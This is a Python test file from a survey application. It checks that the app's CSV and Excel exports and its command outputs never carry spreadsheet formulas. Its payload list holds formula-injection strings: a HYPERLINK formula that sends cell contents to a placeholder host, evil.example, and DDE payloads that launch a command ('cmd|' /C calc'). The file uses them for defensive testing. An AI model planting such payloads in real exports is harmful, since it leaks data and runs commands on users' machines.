"""No CSV that the app or a command writes holds a formula; numbers stay numbers.

How a single cell is defused is in tests/unit/exports/test_csv_lines.py.
"""

import ast
import csv
import io
from pathlib import Path

import openpyxl
import pytest
from passwords import PASSWORD

from survey.core.instrument.parsing import validate
from survey.core.responses.response import Response
from survey.exports.csv_lines import plain_csv
from survey.store import Instructor, State, Survey
from survey.web.accounts.sign_in import make_sign_in_link

PACKAGE = Path(__file__).parents[4] / "survey"
# Written out here, and not taken from the code (ASVS 1.2.10).
STARTS = tuple("=+-@|%\t\r\n\0＝＋－＠")
PAYLOADS = [
    "=1+1", "=HYPERLINK(\"//evil.example/?\"&A1;\"b\")", "+1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "|calc", "%0A=1", "＝2+2", "＋2", "－2", "＠SUM(1)", "-1", "=",
    "a;=1+1", 'b;"=1+1";c', "d;-1;#",
]  # fmt: skip


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def formulas(text: str) -> list[str]:
    """The cells that a spreadsheet might run, whatever it splits at; a number is none."""
    cells = [
        cell
        for delimiter in ",;\t"
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]
    assert len(cells) > 3
    return [cell for cell in cells if cell.startswith(STARTS) and not is_number(cell)]


@pytest.fixture
def hostile(store) -> Survey:
    """A shared survey whose every text begins as a formula does."""
    several = {"kind": "several", "options": PAYLOADS, "gamma": "1/4"}
    choice = {"kind": "choice", "options": PAYLOADS, "gamma": "1/4"}
    instrument = validate(
        {
            "title": PAYLOADS[0],
            "introduction": PAYLOADS[1],
            "questions": [
                {"text": PAYLOADS[2]},
                *({"text": text, **choice} for text in PAYLOADS[:4]),
                {"text": PAYLOADS[4], **several},
                *({"text": text} for text in PAYLOADS),
            ],
        }
    )
    survey = Survey("bcd234", instrument, State.OPEN, True, 1)
    store.surveys.add(survey)
    for number in range(3):
        reports = tuple(number % item.options for item in instrument.items)
        store.responses.add("bcd234", Response(instrument.digest, f"{number:032x}", reports))
    store.surveys.set_state("bcd234", State.CLOSED)
    return survey


@pytest.fixture
def instructor(app, store):
    app.config["WTF_CSRF_ENABLED"] = False
    client = app.test_client()
    client.post(make_sign_in_link(store), data={"password": PASSWORD, "again": PASSWORD})
    return client


ADDRESSES = [
    "/surveys/bcd234/estimates.csv",
    "/surveys/bcd234/reports.csv",
    "/surveys/bcd234/relations/table.csv?first=q2&second=q3",
    "/surveys/bcd234/pooled/pooled.csv",
    "/s/bcd234/reports.csv",
    "/s/bcd234/codebook.csv",
]


def test_every_csv_of_the_app_is_asked_for(app):
    rules = {rule.rule for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv")}
    asked = {address.split("?")[0].replace("bcd234", "<code>") for address in ADDRESSES}
    assert asked == rules


@pytest.mark.parametrize("address", ADDRESSES)
def test_downloads_hold_no_formula(instructor, hostile, address):
    answer = instructor.get(address)
    assert answer.status_code == 200
    assert formulas(answer.text) == []


def test_negative_estimates_are_numbers_in_the_download(instructor, hostile):
    text = instructor.get("/surveys/bcd234/estimates.csv").text
    lines = [line for line in io.StringIO(text, newline="") if not line.startswith("#")]
    estimates = [row["estimate"] for row in csv.DictReader(lines)]
    assert any(float(estimate) < 0 for estimate in estimates)


@pytest.mark.parametrize("kind", ["csv", "estimates-csv", "codebook-csv"])
def test_exports_hold_no_formula(survey_command, config, hostile, kind):
    outcome = survey_command("export", "bcd234", "--data", config.data, "--format", kind)
    assert outcome.code == 0
    assert formulas(outcome.out) == []


@pytest.fixture
def hostile_file(file):
    """Reports under names, and groups, that begin as formulas do."""
    rows = [[n % 2, n // 2 % 2, n % 7, PAYLOADS[n // 2 % 3]] for n in range(80)]
    text = io.StringIO(newline="")
    csv.writer(text).writerows([["=a", "-b+1", "+c", "@group"], *rows])
    return file(text.getvalue())


COMMANDS = [
    ("estimate", "--column==a", "--column=-b+1", "FILE"),
    ("crosstab", "--", "FILE", "=a", "-b+1"),
    ("regress", "--outcome==a", "--on=+c,@group", "FILE"),
]


@pytest.mark.parametrize("command", COMMANDS, ids=[each[0] for each in COMMANDS])
def test_commands_on_a_file_print_no_formula(survey_command, hostile_file, command):
    name, *arguments = [hostile_file if each == "FILE" else each for each in command]
    outcome = survey_command(name, "--gamma", "1/4", "--format", "csv", *arguments)
    assert outcome.code == 0, outcome.err
    assert formulas(outcome.out) == []


def test_names_of_instructors_are_no_formula(survey_command, config, store):
    for name in ("1-1", "0.5", "a-1+1"):
        store.instructors.add(Instructor(name))
    outcome = survey_command("instructors", "list", "--data", config.data, "--format", "csv")
    assert formulas(outcome.out) == []


@pytest.mark.parametrize(
    "address",
    ["/surveys/bcd234/results.xlsx", "/s/bcd234/reports.xlsx",
     "/surveys/bcd234/pooled/pooled.xlsx"],
)  # fmt: skip
def test_workbooks_hold_the_texts_and_no_formula(instructor, hostile, address):
    answer = instructor.get(address)
    assert answer.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(answer.data))
    cells = [cell for sheet in book for row in sheet for cell in row]
    assert {cell.data_type for cell in cells} == {"s", "n", "b"}
    assert {cell.value for cell in cells} >= set(PAYLOADS)


def test_one_module_alone_writes_sheets_and_lets_nothing_be_guessed():
    """XlsxWriter's `write`, `write_row` and `write_column` take text for formulas and links."""
    importing, called = set(), set()
    for path in PACKAGE.rglob("*.py"):
        source = path.read_text()
        if "xlsxwriter" in source:
            importing.add(path.relative_to(PACKAGE).as_posix())
            called |= {
                node.attr
                for node in ast.walk(ast.parse(source))
                if isinstance(node, ast.Attribute) and node.attr.startswith(("write", "insert"))
            }
    assert importing == {
        f"exports/xlsx/{name}.py" for name in ("sheet", "workbook", "pooled_workbook")
    }
    assert called == {"write_string", "write_boolean", "write_number"}


def last_name(function: ast.expr) -> str:
    """What is called, however its module was imported."""
    return ast.unparse(function).rpartition(".")[2]


def test_one_module_alone_writes_csv():
    """So that a new command cannot forget to defuse its cells."""
    writing = [
        path.relative_to(PACKAGE).as_posix()
        for path in PACKAGE.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Call) and last_name(node.func) in {"writer", "DictWriter"}
    ]
    assert writing == []  # survey.exports.csv_lines puts its lines together itself


@pytest.mark.parametrize("start", STARTS)
def test_the_check_catches_a_careless_writer(start):
    text = io.StringIO(newline="")
    csv.writer(text).writerows([["a", "b"], ["c;=1+1", -0.25], [f"{start}x", -0.25]])
    found = formulas(text.getvalue())
    for formula in ("=1+1", f"{start}x"):
        assert any(cell.startswith(formula) for cell in found)
    assert formulas(plain_csv(["a", "b"], [[f"{start}x", -0.25]])) == []
